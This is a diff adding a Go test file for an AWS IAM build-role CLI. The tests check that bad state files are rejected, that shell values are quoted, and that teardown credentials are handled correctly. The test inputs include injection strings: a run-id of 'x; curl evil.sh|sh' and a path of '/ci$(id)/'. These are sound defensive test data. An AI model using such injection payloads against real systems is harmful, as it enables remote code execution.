@@ -1,0 +1,174 @@
+package cli_test
+
+import (
+	"context"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+
+	"github.com/aws/aws-sdk-go-v2/credentials"
+
+	"github.com/buildrole/buildrole/internal/cli"
+	"github.com/buildrole/buildrole/internal/fakeaws"
+	"github.com/buildrole/buildrole/internal/stsauth"
+)
+
+// A state file is input: anything that is not a state buildrole wrote is
+// refused (exit 2) before any AWS call, quickly and in bounded memory.
+func TestBadStateIsRefusedBeforeAnyCall(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	good := map[string]string{
+		"run-id": "3f9c2a1b-0000-4000-8000-000000000000", "region": "us-east-1", "path": "/buildrole/",
+		"role-name": "buildrole-images-pr42-3f9c2a1b", "build-policy": "buildrole-packer",
+		"instance-role-name": "buildrole-images-pr42-3f9c2a1b-vm", "instance-profile-name": "buildrole-images-pr42-3f9c2a1b-vm",
+		"profile-role": "buildrole-images-pr42-3f9c2a1b-vm", "role-to-assume": w.bootstrapARN, "audience": "sts.amazonaws.com",
+	}
+	with := func(k, v string) string {
+		m := map[string]string{}
+		for a, b := range good {
+			m[a] = b
+		}
+		if v == "\x00delete" {
+			delete(m, k)
+		} else {
+			m[k] = v
+		}
+		b, _ := json.Marshal(m)
+		return string(b)
+	}
+	dir := t.TempDir()
+	fifo := filepath.Join(dir, "fifo")
+	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	cases := map[string]string{ // name → file content ("" = special)
+		"null":              "null",
+		"empty object":      "{}",
+		"not json":          "role-name=x",
+		"newline in a name": with("role-name", "buildrole-images-pr42-3f9c2a1b\nx"),
+		"huge value":        with("role-name", strings.Repeat("a", 10<<20)),
+		"run id not a uuid": with("run-id", "x; curl evil.sh|sh"),
+		"unknown key":       with("kill-switch", "on"),
+		"foreign admin":     with("role-name", "Admin"),
+		"wrong policy name": with("build-policy", "AdministratorAccess"),
+		"instance profile":  with("instance-profile-name", "prod-profile"),
+		"unicode name":      with("role-name", "buildrolé-3f9c2a1b"),
+		"no run id":         with("run-id", "\x00delete"),
+		"bad exported key":  with("exported-key-id", "not a key"),
+		"bad role":          with("role-to-assume", "arn:aws:iam::123456789012:user/admin"),
+	}
+	for name, content := range cases {
+		path := filepath.Join(dir, strings.ReplaceAll(name, " ", "-")+".json")
+		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		cases[name] = path
+	}
+	cases["missing file"] = filepath.Join(dir, "typo.json")
+	cases["/dev/zero"] = "/dev/zero"
+	cases["fifo"] = fifo
+	cases["directory"] = dir
+	for name, path := range cases {
+		t.Run(name, func(t *testing.T) {
+			before := w.srv.CountCalls("")
+			code, stdout, stderr := w.runCLI("down", "--state-file", path)
+			if code != cli.ExitUsage {
+				t.Fatalf("exit %d, want %d:\n%s%s", code, cli.ExitUsage, stdout, stderr)
+			}
+			if !strings.Contains(stderr, "nothing was deleted") {
+				t.Errorf("stderr does not say nothing was deleted:\n%s", stderr)
+			}
+			if len(stderr) > 4000 {
+				t.Errorf("message is %d bytes: a state's content must not be echoed whole", len(stderr))
+			}
+			if n := w.srv.CountCalls("") - before; n != 0 {
+				t.Errorf("%d AWS calls for a bad state", n)
+			}
+		})
+	}
+	// The good one is accepted (and finds nothing to delete).
+	path := filepath.Join(dir, "good.json")
+	b, _ := json.Marshal(good)
+	if err := os.WriteFile(path, b, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if code, _, stderr := w.runCLI("down", "--state-file", path); code != cli.ExitOK {
+		t.Fatalf("a valid state: exit %d:\n%s", code, stderr)
+	}
+}
+
+// Values printed inside a suggested command are quoted for the shell.
+func TestSuggestedCommandsAreQuoted(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	w.set("INPUT_PATH", "/ci$(id)/")
+	w.srv.InjectFault(fakeaws.Fault{Action: "DeleteRole", Code: "AccessDenied", Status: 403, Message: "User: x is not authorized to perform: iam:DeleteRole"})
+	w.srv.InjectFault(fakeaws.Fault{Action: "AssumeRoleWithWebIdentity", Nth: 2, Code: "AccessDenied", Status: 403, Message: "Not authorized"})
+	w.tune = func(o *stsauth.Options) { o.PropagationTimeout = 1 }
+	code, stdout, _ := w.run(context.Background(), "up")
+	if code != cli.ExitLeftovers {
+		t.Fatalf("exit %d:\n%s", code, stdout)
+	}
+	if !strings.Contains(stdout, `--path '/ci$(id)/'`) {
+		t.Errorf("the path is not quoted in the suggested command:\n%s", stdout)
+	}
+}
+
+// The post step never signs teardown with the build role's keys that up
+// exported to the job, though the runner hands them to it: it recognises
+// them and uses the rest of the default chain (the runner's own identity).
+func TestTeardownActsAsTheIdentityThatCreated(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	w.set("INPUT_ROLE-TO-ASSUME", "")
+	w.set("ACTIONS_ID_TOKEN_REQUEST_URL", "")
+	w.tune = func(o *stsauth.Options) {
+		o.Credentials = credentials.NewStaticCredentialsProvider("AKIDRUNNER", "runner-secret", "")
+	}
+	if code, out, _ := w.run(context.Background(), "up"); code != cli.ExitOK {
+		t.Fatalf("up exit %d:\n%s", code, out)
+	}
+	w.postEnv()
+	exported := w.getenv("AWS_ACCESS_KEY_ID")
+	if exported == "" || w.file("GITHUB_STATE")["exported-key-id"] != exported {
+		t.Fatalf("the state does not record the exported key id %q: %v", exported, w.file("GITHUB_STATE"))
+	}
+	w.srv.ResetRequests()
+	if code, out, _ := w.run(context.Background(), "down"); code != cli.ExitOK {
+		t.Fatalf("down exit %d:\n%s", code, out)
+	}
+	if got := w.leftovers(); len(got) != 0 {
+		t.Fatalf("left behind: %v", got)
+	}
+	for _, c := range w.srv.Requests() {
+		if c.AccessKeyID == exported {
+			t.Errorf("%s was signed with the exported build-role key", c.Action)
+		}
+	}
+}
+
+// Up refuses, before any call, a job whose only identity is environment
+// keys that its own export would replace for the post step.
+func TestUpRefusesWhenItsExportWouldStrandTheTeardown(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	w.set("INPUT_ROLE-TO-ASSUME", "")
+	w.set("AWS_ACCESS_KEY_ID", "AKIAEARLIERSTEP00001")
+	w.set("AWS_SECRET_ACCESS_KEY", "s3cr3t")
+	code, stdout, _ := w.run(context.Background(), "up")
+	if code != cli.ExitUsage || !strings.Contains(stdout, "export-credentials: false") || !strings.Contains(stdout, "role-to-assume") {
+		t.Fatalf("exit %d:\n%s", code, stdout)
+	}
+	if n := w.srv.CountCalls(""); n != 0 {
+		t.Errorf("%d AWS calls", n)
+	}
+	w.set("INPUT_EXPORT-CREDENTIALS", "false")
+	w.tune = nil
+	if code, stdout, _ := w.run(context.Background(), "up"); code != cli.ExitOK {
+		t.Fatalf("with export-credentials false: exit %d:\n%s", code, stdout)
+	}
+}
